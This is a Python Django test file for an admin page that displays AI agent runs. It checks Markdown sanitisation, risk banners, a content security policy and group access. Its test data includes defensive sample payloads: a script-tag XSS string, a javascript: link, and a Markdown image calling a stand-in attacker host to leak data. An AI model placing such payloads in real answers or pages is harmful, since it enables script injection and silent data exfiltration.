"""The run detail page of the admin: the answer's Markdown rendered (and made safe), the plan
and the timings readable."""

from django.contrib.auth.models import Group

from hawk.models import AgentRun
from tests.conftest import restore_roles
from tests.hawk.admin.support import admin_url, change_url

ANSWER = """## Decision: PASS

| entity | available |
|---|---|
| ENT1 | 1,000.00 |

<script>alert(1)</script> [click](javascript:alert(2)) [docs](https://example.com)
"""


def test_the_run_page_renders_the_answer_plan_and_timings(admin_client, db):
    run = AgentRun.objects.create(
        prompt="hedge 150K CNY", answer=ANSWER, status="completed",
        plan={"intent": "utilisation", "data_scope": "targeted", "business_date": "2026-10-31",
              "parameters": {"currency": "CNY"},
              "sources": [{"name": "positions", "filters": {"currency_code": "CNY"}}]},
        timings={"plan_ms": 1.25, "extraction_ms": 12.5, "first_token_ms": None, "total_ms": 40.0},
    )  # fmt: skip

    page = admin_client.get(change_url(run)).content.decode()

    assert "<h2>Decision: PASS</h2>" in page
    assert "<td>ENT1</td>" in page
    assert "<script>alert(1)</script>" not in page
    assert "javascript:alert(2)" not in page.split('class="hawk-answer"')[1].split("</div>")[0]
    assert 'href="https://example.com"' in page
    assert "<strong>utilisation</strong>" in page and "<td>positions</td>" in page
    assert "<td>extraction</td>" in page


def test_a_high_risk_answer_carries_a_banner_naming_what_it_contradicts(admin_client, db):
    quality = {
        "risk": "critical",
        "findings": [{"layer": "facts", "message": "decision FAIL, the facts say PASS"}],
    }
    risky = AgentRun.objects.create(prompt="hedge", answer="FAIL", quality=quality)
    quiet = AgentRun.objects.create(prompt="hedge", answer="PASS", quality={"risk": "low"})

    page = admin_client.get(change_url(risky)).content.decode()
    assert "Critical risk: check this answer before relying on it." in page
    assert "decision FAIL, the facts say PASS" in page
    assert "check this answer" not in admin_client.get(change_url(quiet)).content.decode()


def test_an_image_in_an_answer_is_shown_as_a_link_never_loaded(admin_client, db):
    answer = "Look: ![chart](https://evil.example/pixel?d=CNY-capacity) done"
    run = AgentRun.objects.create(prompt="p", answer=answer, status="completed")
    page = admin_client.get(change_url(run)).content.decode()
    shown = page.split('class="hawk-answer"')[1].split("</div>")[0]
    assert "<img" not in shown
    assert 'href="https://evil.example/pixel?d=CNY-capacity"' in shown
    assert ">chart<" in shown


def test_admin_pages_carry_a_content_security_policy(admin_client, db):
    run = AgentRun.objects.create(prompt="p", answer="a", status="completed")
    policy = admin_client.get(change_url(run))["Content-Security-Policy"]
    assert "default-src 'self'" in policy
    assert "img-src 'self'" in policy and "script-src 'self'" in policy


def test_members_of_the_admin_and_operations_groups_open_run_history(db, client, django_user_model):
    restore_roles()
    run = AgentRun.objects.create(prompt="p", answer="a", status="completed")
    for role in ("admin", "operations"):
        member = django_user_model.objects.create_user(f"{role}-staff", is_staff=True)
        member.groups.add(Group.objects.get(name=role))
        client.force_login(member)
        assert client.get(admin_url(AgentRun, "changelist")).status_code == 200, role
        assert client.get(change_url(run)).status_code == 200, role
